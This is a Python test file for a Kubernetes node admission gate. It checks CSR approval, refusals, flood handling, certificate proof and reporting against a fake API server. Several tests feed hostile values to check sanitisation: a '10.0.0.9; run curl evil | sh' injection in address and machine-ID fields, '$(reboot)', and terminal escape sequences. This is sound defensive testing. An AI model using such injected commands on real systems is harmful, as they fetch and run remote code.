"""The gate against an API server in memory: what it approves, when it ends, and what it says."""

import asyncio
import ipaddress
from collections.abc import Mapping
from dataclasses import replace
from datetime import datetime, timedelta
from types import MappingProxyType
from typing import Any

import aiohttp
import pytest

from admission.api_server.api import CSRS, NODES, ApiError
from admission.gate import report
from admission.gate.gate import Gate
from admission.gate.proof import SILENT_LIMIT_S
from admission.inventory import InventoryNode
from admission.objects.node import internal_addresses, kubelet_version, machine_id
from admission.rules.decision import TokenGrant
from admission.serving_certificate import Untrusted
from tests.unit.admission.fakes import (
    CLIENT,
    NOW,
    TOKEN_ID,
    FakeApi,
    Ports,
    clock,
    entry,
    orders,
    run,
)

ONE = entry("node-1", "10.0.0.1")
TWO = entry("node-2", "10.0.0.2")
BOOTSTRAPPER = f"system:bootstrap:{TOKEN_ID}"


class Run:
    """A run of the gate, what happens while it runs, and what came of it."""

    def __init__(
        self,
        *nodes: InventoryNode,
        stall_s: int = 60,
        grants: Mapping[str, TokenGrant] = MappingProxyType({}),
        token_problems: Mapping[str, str] = MappingProxyType({}),
        **changed: Any,
    ) -> None:
        self.api = FakeApi()
        self.ports = Ports()
        self.said: list[str] = []
        self.seconds = 0.0
        self.all_in = False
        self.ahead = timedelta()  # of the time in this world
        self._orders = replace(orders(*nodes, stall_s=stall_s), **changed)
        self._tokens = {"grants": grants, "token_problems": token_problems}
        self._events: list[tuple[float, Any]] = []

    def at(self, seconds: float, event: Any, *args: Any, **kwargs: Any) -> None:
        self._events.append((seconds, lambda: event(*args, **kwargs)))

    def go(self) -> "Run":
        run(self.work())
        return self

    async def work(self) -> None:
        before = asyncio.all_tasks()
        for seconds, event in self._events:
            asyncio.get_running_loop().call_later(seconds, event)
        self.gate = Gate(
            self._orders,
            self.api,
            self.ports.look,
            self.said.append,
            **self._tokens,  # type: ignore[arg-type]
            clock=clock,
            now=lambda: NOW + self.ahead,
        )
        try:
            self.all_in = await self.gate.run()
        finally:
            self.seconds = clock()
            left = asyncio.all_tasks() - before
            assert not left, f"left running: {left}"

    @property
    def told(self) -> str:
        return "\n".join([*self.said, *report.table(self.gate.progress.values())])


def joins(run_: Run, node: InventoryNode, *, at: float = 0) -> None:
    """Let a kubelet do what it does when all goes well."""
    address = str(node.addresses[0])
    name = f"csr-{node.name}"
    run_.at(at, run_.api.ask, name, node.name, address)
    run_.at(at + 0.1, run_.api.node, node.name, address, ready=False)
    run_.at(at + 1, run_.api.node, node.name, address)


# A join


def test_of_many_nodes_it_is_told_how_many_have_joined_and_who_is_late() -> None:
    many = [entry(f"node-{n:02}", f"10.0.1.{n}") for n in range(1, 41)]
    it = Run(*many, stall_s=70)
    for node in many[:30]:
        joins(it, node)
    it.go()
    counts = [line for line in it.said if ": joined (" in line]
    assert len(counts) == 30
    assert counts[-1].endswith(": joined (30 of 40)")
    late = ", ".join(node.name for node in many[30:38])
    waiting = f"30 of 40 nodes have joined; late: {late} and 2 more"
    assert waiting in it.said
    # At the end a line for each that has not joined, not for all.
    table = list(report.table(it.gate.progress.values()))
    assert table[0].startswith("30 of 40 nodes have joined, half of them within ")
    assert sum(line.startswith("node-") for line in table) == 20
    assert not any(line.startswith("node-01 ") for line in table)


def test_a_large_pool_in_which_nobody_has_joined_is_reported() -> None:
    it = Run(*(entry(f"node-{n:02}", f"10.0.1.{n}") for n in range(1, 41)), stall_s=70)
    it.go()
    table = list(report.table(it.gate.progress.values()))
    assert table[0] == "0 of 40 nodes have joined"
    assert sum("has NOT joined" in line for line in table) == 40


def with_a_second_address() -> Run:
    """A node that got a second address, and still presents the certificate for the first."""
    two = entry("node-1", "10.0.0.1", "fd00::1")
    it = Run(two)
    joins(it, two)
    approved = [{"type": "Approved", "status": "True"}]
    it.at(0.5, it.api.ask, "csr-2", "node-1", "10.0.0.1", "fd00::1", conditions=approved)
    it.ports.presented["node-1"] = ("10.0.0.1",)
    return it


def test_a_kubelet_that_does_not_use_yet_what_was_approved_has_not_joined() -> None:
    it = with_a_second_address()
    it.at(30, it.ports.presented.clear)
    it.go()
    assert it.all_in
    assert 30 <= it.seconds < 33


def test_what_a_kubelet_does_not_use_yet_is_told() -> None:
    it = with_a_second_address()
    it.at(0.6, it.api.issue, "csr-2")
    it.go()
    assert not it.all_in
    told = "its port 10250 presents a certificate without fd00::1, which its request csr-2 has got"
    assert told in it.told


def test_an_older_approved_request_is_not_asked_for() -> None:
    two = entry("node-1", "10.0.0.1", "fd00::1")
    it = Run(two)
    joins(it, ONE)
    approved = [{"type": "Approved", "status": "True"}]
    long_ago = NOW - timedelta(minutes=30)
    it.at(
        0.5,
        it.api.ask,
        "old",
        "node-1",
        "10.0.0.1",
        "fd00::1",
        created=long_ago,
        conditions=approved,
    )
    it.ports.presented["node-1"] = ("10.0.0.1",)
    it.go()
    assert it.all_in


def test_a_node_of_which_only_a_clouds_address_is_internal_is_no_other_machines() -> None:
    cloud = replace(ONE, certificate_addresses=(ipaddress.ip_address("10.9.0.1"),))
    it = Run(cloud)
    it.at(0, it.api.ask, "csr-1", "node-1", "10.0.0.1", "10.9.0.1")
    it.at(0.1, it.api.node, "node-1", "10.9.0.1")
    it.ports.presented["node-1"] = ("10.0.0.1", "10.9.0.1")
    it.go()
    assert it.all_in
    assert it.api.approved == ["csr-1"]


def test_a_kubelet_that_does_all_right_is_admitted() -> None:
    it = Run(ONE)
    joins(it, ONE)
    it.go()
    assert it.all_in
    assert it.api.approved == ["csr-node-1"]
    assert it.said == [
        "node-1: serving CSR csr-node-1 approved (SANs node-1, 10.0.0.1)",
        "node-1: joined",
    ]
    assert it.seconds == pytest.approx(1)


def test_a_request_that_comes_before_its_node_is_approved_as_soon_as_the_node_is_there() -> None:
    it = Run(ONE)
    it.at(0, it.api.ask, "csr-1", "node-1", "10.0.0.1")
    it.at(5, lambda: it.said.append(f"approved so far: {it.api.approved}"))
    it.at(5, it.api.node, "node-1", "10.0.0.1")
    it.go()
    assert it.said[0] == "approved so far: []"
    assert it.all_in


def test_what_was_there_before_the_run_is_seen() -> None:
    it = Run(ONE)
    it.api.ask("csr-1", "node-1", "10.0.0.1", created=NOW - timedelta(minutes=10))
    it.api.node("node-1", "10.0.0.1")
    it.go()
    assert it.all_in
    assert it.api.approved == ["csr-1"]


def test_nodes_that_joined_long_ago_pass_at_once_and_nothing_is_approved() -> None:
    it = Run(ONE, TWO)
    it.api.node("node-1", "10.0.0.1")
    it.api.node("node-2", "10.0.0.2")
    it.go()
    assert it.all_in
    assert it.api.approved == []
    assert it.seconds == 0


def test_a_pool_without_nodes_is_in_at_once() -> None:
    assert Run().go().all_in


def test_nodes_are_admitted_side_by_side() -> None:
    nodes = [entry(f"node-{number}", f"10.0.1.{number}") for number in range(1, 101)]
    it = Run(*nodes)
    for node in nodes:
        joins(it, node)
    it.go()
    assert it.all_in
    assert len(it.api.approved) == 100
    assert it.seconds == pytest.approx(1)


def test_two_requests_of_one_node_are_both_approved() -> None:
    it = Run(ONE)
    it.api.ask("csr-1", "node-1", "10.0.0.1")
    it.api.ask("csr-2", "node-1", "10.0.0.1")
    it.at(1, it.api.node, "node-1", "10.0.0.1", ready=False)
    it.at(2, it.api.node, "node-1", "10.0.0.1")
    assert it.go().all_in
    assert sorted(it.api.approved) == ["csr-1", "csr-2"]


# What is never approved


def test_a_request_for_anothers_address_is_refused_once_and_holds_up_nobody() -> None:
    it = Run(ONE, TWO)
    it.api.node("node-1", "10.0.0.1")
    it.at(0, it.api.ask, "bad", "node-1", "10.0.0.2")
    it.at(1, it.api.sync, CSRS)
    joins(it, TWO, at=2)
    it.go()
    assert it.api.approved == ["csr-node-2"]
    refusals = [line for line in it.said if "refused" in line]
    assert refusals == [
        "node-1: serving CSR bad refused: the address 10.0.0.2 is not one of the node's in the"
        " inventory"
    ]


def test_requests_of_others_are_not_touched() -> None:
    it = Run(ONE, stall_s=10)
    it.api.ask("other-pool", "node-9", "10.0.0.9")
    it.api.ask("no-node", "node-1", "10.0.0.1", user="node-1")
    it.api.ask("person", "node-1", "10.0.0.1", user="admin")
    it.api.ask("client", "node-1", signer=CLIENT, user=BOOTSTRAPPER)
    it.api.ask("another-signer", "node-1", "10.0.0.1", signer="example.org/any")
    it.api.node("node-1", "10.0.0.1", ready=False)
    it.go()
    assert it.api.approved == []
    assert [call for call in it.api.asked if not call.startswith("WATCH")] == []


def test_a_requester_without_the_right_is_refused_until_it_has_it() -> None:
    it = Run(ONE)
    it.api.allowed = False
    joins(it, ONE)
    it.ports.failing["node-1"] = ValueError("has no serving certificate yet")
    it.at(10, setattr, it.api, "allowed", True)
    it.at(15, it.ports.failing.clear)
    it.go()
    assert it.all_in
    assert [line for line in it.said if "refused" in line] == [
        "node-1: serving CSR csr-node-1 refused: system:node:node-1 may not create"
        " certificatesigningrequests/selfnodeserver; the ClusterRoleBinding"
        " node-server-cert-renewal gives that right"
    ]
    assert "csr-node-1 approved" in it.said[1]


def test_a_node_that_is_being_deleted_gets_no_certificate() -> None:
    it = Run(ONE, stall_s=10)
    it.api.node("node-1", "10.0.0.1", ready=False, deletionTimestamp="2026-11-24T12:00:00Z")
    it.api.ask("csr-1", "node-1", "10.0.0.1")
    it.go()
    assert it.api.approved == []
    assert "csr-1 refused: the Node node-1 is being deleted" in it.told


def test_a_request_that_is_decided_already_is_left_alone() -> None:
    it = Run(ONE, stall_s=10)
    it.api.node("node-1", "10.0.0.1", ready=False)
    it.api.ask("csr-1", "node-1", "10.0.0.1", conditions=[{"type": "Denied", "message": "no"}])
    it.go()
    assert it.api.approved == []
    assert "its serving request csr-1 is denied: no" in it.told


def test_a_flood_of_one_node_is_refused_and_another_node_admitted() -> None:
    it = Run(ONE, TWO)
    it.api.node("node-1", "10.0.0.1", ready=False)
    for number in range(200):
        it.api.ask(f"junk-{number}", "node-1", "10.0.0.1")
    joins(it, TWO)
    it.go()
    assert it.api.approved == ["csr-node-2"]
    assert "more than 20 requests of system:node:node-1 are pending" in it.told
    assert len(it.said) < 20
    assert "node-1: more of its serving CSRs are refused; see kubectl get csr" in it.said


def test_what_was_refused_in_a_flood_is_judged_again_when_that_is_over() -> None:
    it = Run(ONE)
    it.api.node("node-1", "10.0.0.1")
    it.api.ask("good", "node-1", "10.0.0.1")
    for number in range(200):
        it.api.ask(f"junk-{number}", "node-1", "10.0.0.1")
        it.at(5, it.api.delete, CSRS, f"junk-{number}")
    it.ports.failing["node-1"] = ValueError("has no serving certificate yet")
    it.at(50, it.ports.failing.clear)
    assert it.go().all_in
    assert it.api.approved == ["good"]


def test_what_comes_from_the_future_is_judged_again_when_that_is_here() -> None:
    it = Run(ONE)
    it.api.node("node-1", "10.0.0.1")
    it.api.ask("early", "node-1", "10.0.0.1", created=NOW + timedelta(minutes=6))
    it.at(5, setattr, it, "ahead", timedelta(minutes=2))
    it.ports.failing["node-1"] = ValueError("has no serving certificate yet")
    it.at(50, it.ports.failing.clear)
    assert it.go().all_in
    assert it.api.approved == ["early"]
    assert "it was made in the future" in it.told


def test_requests_that_nobody_approved_for_a_day_are_no_flood() -> None:
    it = Run(ONE)
    it.api.node("node-1", "10.0.0.1")
    for number in range(90):
        created = NOW - timedelta(hours=2, minutes=number)
        it.api.ask(f"old-{number}", "node-1", "10.0.0.1", created=created)
    it.api.ask("new", "node-1", "10.0.0.1")
    it.ports.failing["node-1"] = ValueError("has no serving certificate yet")
    it.at(1, it.ports.failing.clear)
    assert it.go().all_in
    assert it.api.approved == ["new"]


# Conflicts and failures


def test_a_request_that_changed_since_it_was_read_is_judged_again_as_it_is_now() -> None:
    it = Run(ONE, stall_s=10)
    it.api.node("node-1", "10.0.0.1", ready=False)
    it.api.ask("csr-1", "node-1", "10.0.0.1")
    review = it.api.may_serve_itself

    async def denied_meanwhile(requester: Any) -> bool:
        answer = await review(requester)
        it.api.condition("csr-1", "Denied", "by an operator")
        return answer

    it.api.may_serve_itself = denied_meanwhile  # type: ignore[method-assign]
    it.go()
    assert it.api.approved == []
    assert "by an operator" in it.told


@pytest.mark.parametrize(
    "failure",
    [
        ApiError(500, "PUT", "approval", "etcd is away"),
        aiohttp.ClientConnectionError("refused"),
        TimeoutError(),
    ],
)
def test_an_approval_that_fails_is_tried_again(failure: Exception) -> None:
    it = Run(ONE)
    it.api.answers[f"PUT {CSRS}/csr-node-1/approval"] = [failure]
    joins(it, ONE)
    it.ports.failing["node-1"] = ValueError("has no serving certificate yet")
    it.at(5, it.ports.failing.clear)
    assert it.go().all_in
    assert it.api.approved == ["csr-node-1"]


def forbidden() -> ApiError:
    return ApiError(403, "PUT", f"{CSRS}/csr-node-1/approval", "user may not approve")


def test_rights_that_are_missing_for_a_moment_end_no_run() -> None:
    it = Run(ONE)
    it.api.answers[f"PUT {CSRS}/csr-node-1/approval"] = [forbidden()] * 2
    joins(it, ONE)
    assert it.go().all_in


def test_missing_rights_end_the_run() -> None:
    it = Run(ONE, TWO)
    it.api.answers[f"PUT {CSRS}/csr-node-1/approval"] = [forbidden()] * 10
    joins(it, ONE)
    with pytest.raises(ApiError, match="user may not approve"):
        it.go()


def test_a_watch_that_ends_with_an_error_ends_the_run() -> None:
    it = Run(ONE)
    it.api.answers[f"WATCH {NODES}"] = [ApiError(403, "GET", NODES, "may not list nodes")]
    with pytest.raises(ApiError, match="may not list nodes"):
        it.go()


def test_a_request_that_breaks_the_judge_is_refused_and_holds_up_nobody() -> None:
    it = Run(ONE, TWO, stall_s=10)
    it.api.node("node-1", "10.0.0.1", ready=False)
    it.api.answers["REVIEW system:node:node-1"] = [RuntimeError("odd")]
    it.api.ask("odd", "node-1", "10.0.0.1")
    joins(it, TWO)
    it.go()
    assert it.api.approved == ["csr-node-2"]
    assert "odd refused: it can't be judged (RuntimeError)" in it.told


# The proof


def test_ready_is_not_joined_before_the_certificate_is_live() -> None:
    it = Run(ONE)
    joins(it, ONE)
    it.ports.failing["node-1"] = ValueError("has no serving certificate yet")
    it.at(20, it.ports.failing.clear)
    it.go()
    assert it.all_in
    assert 20 <= it.seconds <= 22.1


def test_a_certificate_that_is_issued_is_looked_for_at_once() -> None:
    it = Run(ONE)
    joins(it, ONE)
    it.ports.failing["node-1"] = ValueError("has no serving certificate yet")
    it.at(20.9, it.api.issue, "csr-node-1")
    it.at(20.95, it.ports.failing.clear)
    it.go()
    assert it.seconds == pytest.approx(21, abs=0.05)


def test_a_wrong_certificate_is_no_join_though_the_api_server_reaches_the_kubelet() -> None:
    it = Run(ONE, stall_s=60)
    it.api.node("node-1", "10.0.0.1")
    it.ports.failing["node-1"] = ValueError("presents a certificate that fails: unknown issuer")
    it.go()
    assert not it.all_in
    assert "has NOT joined: its port 10250 presents a certificate that fails: unknown issuer" in (
        it.told
    )


def test_a_kubelet_that_the_api_server_does_not_reach_has_not_joined() -> None:
    it = Run(ONE, stall_s=30)
    joins(it, ONE)
    it.api.reached["node-1"] = False
    it.go()
    assert not it.all_in
    assert "the API server does not reach it" in it.told


def test_a_kubelet_that_only_the_api_server_reaches_joins_after_a_while() -> None:
    it = Run(ONE)
    it.api.node("node-1", "10.0.0.1")
    it.ports.failing["node-1"] = ConnectionRefusedError()
    it.go()
    assert it.all_in
    assert SILENT_LIMIT_S <= it.seconds < SILENT_LIMIT_S + 3
    assert it.said == ["node-1: joined; port 10250 is not reachable from here"]


def test_a_name_that_another_machine_holds_is_not_joined() -> None:
    it = Run(ONE, stall_s=10)
    it.api.node("node-1", "10.0.0.77")
    it.go()
    assert not it.all_in
    assert "belongs to a machine with the address 10.0.0.77; the name is taken" in it.told
    assert it.said[0].startswith("node-1: the Node node-1 belongs to a machine with the address")
    assert it.ports.looks == 0


def test_a_node_that_writes_nonsense_of_itself_holds_up_nobody() -> None:
    it = Run(ONE, TWO, stall_s=10)
    it.api.node("node-1", "not an address")
    joins(it, TWO)
    it.go()
    assert it.gate.progress["node-2"].joined
    assert not it.gate.progress["node-1"].joined


# The end


def test_a_dead_machine_keeps_no_other_out_and_the_run_ends_when_nothing_moves() -> None:
    it = Run(ONE, TWO, stall_s=60)
    joins(it, TWO)
    it.go()
    assert not it.all_in
    assert it.gate.progress["node-2"].joined
    assert it.seconds == pytest.approx(61)
    assert "node-1 has NOT joined: no request for a certificate has arrived" in it.told


def test_noise_does_not_keep_a_run_alive() -> None:
    it = Run(ONE, stall_s=30)
    it.api.node("node-1", "10.0.0.1", ready=False)
    for second in range(100):
        it.at(second, it.api.ask, f"junk-{second}", "node-1", "10.0.0.9")
        it.at(second, it.api.node, "node-1", "10.0.0.1", ready=False)
    it.go()
    assert it.seconds == pytest.approx(30)


def client(it: Run, **status: Any) -> None:
    it.api.ask("csr-c", "node-1", signer=CLIENT, user=BOOTSTRAPPER, **status)


APPROVED = {"conditions": [{"type": "Approved", "message": ""}]}
STUCK = {
    "its client request is pending": (
        client,
        "its client request csr-c is not approved; check that kube-controller-manager runs",
    ),
    "its client request is not signed": (
        lambda it: client(it, **APPROVED),
        "its client request csr-c is approved, but not signed; kube-controller-manager needs",
    ),
    "its client request is denied": (
        lambda it: client(it, conditions=[{"type": "Denied", "message": "by hand"}]),
        "its client request csr-c is denied: by hand",
    ),
    "its client request failed": (
        lambda it: client(it, conditions=[{"type": "Failed", "message": "bad usages"}]),
        "its client request csr-c is failed: bad usages",
    ),
    "it has a certificate and makes no Node": (
        lambda it: client(it, **APPROVED, certificate="Y2VydA=="),
        "its client request csr-c is issued, but it has no Node: the kubelet has not used",
    ),
    "its Node is not Ready": (
        lambda it: it.api.node("node-1", "10.0.0.1", ready=False),
        "its Node is not Ready: no CNI",
    ),
    "its serving request is not signed": (
        lambda it: (
            it.api.node("node-1", "10.0.0.1", ready=False),
            it.api.ask("csr-1", "node-1", "10.0.0.1"),
        ),
        "its serving request csr-1 is approved, but not signed",
    ),
    "its port does not answer": (
        lambda it: (
            it.api.node("node-1", "10.0.0.1"),
            it.api.reached.update({"node-1": False}),
            it.ports.failing.update({"node-1": TimeoutError()}),
        ),
        "its port 10250 does not answer here; the API server does not reach it",
    ),
}


@pytest.mark.parametrize(("happens", "told"), STUCK.values(), ids=STUCK)
def test_the_report_names_where_a_node_got_stuck(happens: Any, told: str) -> None:
    it = Run(ONE, stall_s=10)
    happens(it)
    it.go()
    assert not it.all_in
    assert told in it.told


def test_the_table_has_a_line_for_each_node() -> None:
    it = Run(ONE, TWO, stall_s=10)
    joins(it, ONE)
    it.go()
    lines = list(report.table(it.gate.progress.values()))
    assert [" ".join(line.split()) for line in lines[1:3]] == [
        "node-1 0.0 s - 0.1 s 1.0 s 1.0 s 1.0 s 1.0 s 2027-11-24 00:00Z",
        "node-2 - - - - - - - -",
    ]


def test_nodes_of_one_machine_id_are_reported() -> None:
    it = Run(ONE, TWO)
    joins(it, ONE)
    joins(it, TWO)
    it.go()
    assert list(report.shared_machine_ids(it.gate.progress.values())) == []
    for progress in it.gate.progress.values():
        assert progress.node is not None
        progress.node["status"]["nodeInfo"]["machineID"] = "0123" * 8
    (line,) = report.shared_machine_ids(it.gate.progress.values())
    assert line.startswith("warning: node-1, node-2 have the same machine-id 0123")


def test_an_api_server_that_verifies_no_kubelet_is_reported_of_where_it_shows() -> None:
    it = Run(ONE, stall_s=10)
    it.api.node("node-1", "10.0.0.1")
    it.ports.failing["node-1"] = Untrusted("presents a certificate that fails: unknown issuer")
    it.go()
    assert "kube-apiserver needs --kubelet-certificate-authority" in it.told


@pytest.mark.parametrize(
    ("reported", "told"),
    [
        ("v1.37.2", "v1.37.2"),
        ("v1.31.4+k3s1", "v1.31.4+k3s1"),
        ("v1.29.1-eks-508b6b3", "v1.29.1-eks-508b6b3"),
        ("v1.37.2\x1b[2J", ""),
        ("$(reboot)", ""),
        ("v1.37." + "2" * 99, ""),
        (7, ""),
    ],
)
def test_a_kubelet_s_version_in_the_outputs_is_a_version(reported: Any, told: str) -> None:
    node = {"metadata": {"name": "node-1"}, "status": {"nodeInfo": {"kubeletVersion": reported}}}
    assert kubelet_version(node) == told


ODD = "m \x1b[2J\nerror: run this <{%x%}> <{%y " + "x" * 10_000


def test_what_a_kubelet_wrote_can_not_pass_for_a_line_of_ours_nor_end_the_engine() -> None:
    it = Run(ONE, stall_s=5)
    it.api.node("node-1", "10.0.0.1", ready=False)
    node = it.api.objects[NODES]["node-1"]
    (ready,) = (c for c in node["status"]["conditions"] if c["type"] == "Ready")
    it.api.put(
        NODES, {**node, "status": {**node["status"], "conditions": [{**ready, "message": ODD}]}}
    )
    it.go()
    document = report.document(it.gate.progress.values(), orders(), {}, NOW)
    (late,) = document["pending"]
    assert late["reason"].startswith("its Node is not Ready: m ?[2J?error: run this < {%x% }>")
    for text in (late["reason"], *it.said):
        assert not {"\x1b", "\n"} & set(text)
        assert "<{" not in text
        assert "%}" not in text
        assert len(text) < 1200


def test_of_addresses_and_ids_only_what_has_their_form_is_told() -> None:
    node = {
        "metadata": {"name": "node-1"},
        "status": {
            "addresses": [
                {"type": "InternalIP", "address": "10.0.0.9; run curl evil | sh"},
                {"type": "InternalIP", "address": "10.0.0.8"},
            ],
            "nodeInfo": {"machineID": "abc; run curl evil | sh"},
        },
    }
    assert internal_addresses(node) == ["(not an address)", "10.0.0.8"]
    assert machine_id(node) == ""
    node["status"]["nodeInfo"] = {"machineID": "0123456789abcdef" * 2}
    assert machine_id(node) == "0123456789abcdef" * 2


def test_the_document_names_nodes_in_order_and_the_token() -> None:
    it = Run(TWO, ONE)
    joins(it, ONE)
    joins(it, TWO)
    it.go()
    states = {TOKEN_ID: "revoked"}
    assert report.document(it.gate.progress.values(), orders(), states, NOW) == {
        "nodes": [
            {
                "name": name,
                "address": address,
                "join": "",
                "kubeletVersion": "v1.37.2",
                "servingCertificateEnd": "2027-11-24T00:00:00Z",
                "proven": NOW.strftime("%Y-%m-%dT%H:%M:%SZ"),
            }
            for name, address in (("node-1", "10.0.0.1"), ("node-2", "10.0.0.2"))
        ],
        "pending": [],
        "tokens": [{"id": TOKEN_ID, "node": None, "state": "revoked"}],
    }


def test_a_run_that_is_interrupted_leaves_nothing_running() -> None:
    it = Run(ONE)

    async def interrupted() -> None:
        task = asyncio.create_task(it.work())
        asyncio.get_running_loop().call_later(5, task.cancel)
        await task

    with pytest.raises(asyncio.CancelledError):
        run(interrupted())


# A change


def test_a_changed_node_counts_once_it_was_heard_of_since_its_restart() -> None:
    it = Run(ONE, restarts={"node-1": NOW})
    it.api.node("node-1", "10.0.0.1", heard=NOW - timedelta(seconds=1))
    it.at(5, it.api.node, "node-1", "10.0.0.1", heard=NOW)
    it.go()
    assert it.all_in
    assert it.seconds == pytest.approx(5, abs=0.2)
    assert "node-1: works since its restart" in it.said


@pytest.mark.parametrize("heard", [None, NOW - timedelta(seconds=1)])
def test_a_changed_node_that_is_not_heard_of_is_named(heard: datetime | None) -> None:
    it = Run(ONE, stall_s=10, restarts={"node-1": NOW})
    it.api.node("node-1", "10.0.0.1", heard=heard)
    it.go()
    assert not it.all_in
    assert "node-1 is NOT proven since its restart: " in it.told
    assert (
        f"its kubelet was restarted at {NOW:%H:%M:%S}Z and has not reported since then" in it.told
    )
